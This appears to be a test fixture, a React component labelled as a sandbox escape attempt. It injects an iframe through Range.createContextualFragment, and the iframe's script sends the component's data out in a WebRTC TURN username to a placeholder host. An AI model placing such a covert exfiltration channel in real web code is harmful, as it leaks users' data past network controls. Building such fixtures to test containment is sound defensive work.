import { useEffect } from "react";

// Escape attempt: webrtc_contextual_fragment — Range.createContextualFragment with a frame
export default function Hostile({ data }) {
  useEffect(() => {
    const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-webrtc_contextual_fragment-" + JSON.stringify(data ?? null), credential: "c" }] };
    try {
      const fragment = document.createRange().createContextualFragment(`<iframe srcdoc="${`<script>const servers = ${JSON.stringify(servers)}; const pc = new RTCPeerConnection(servers); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));<\/script>`.replace(/"/g, "&quot;")}"></iframe>`);
      document.body.appendChild(fragment);
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">webrtc_contextual_fragment</p>;
}
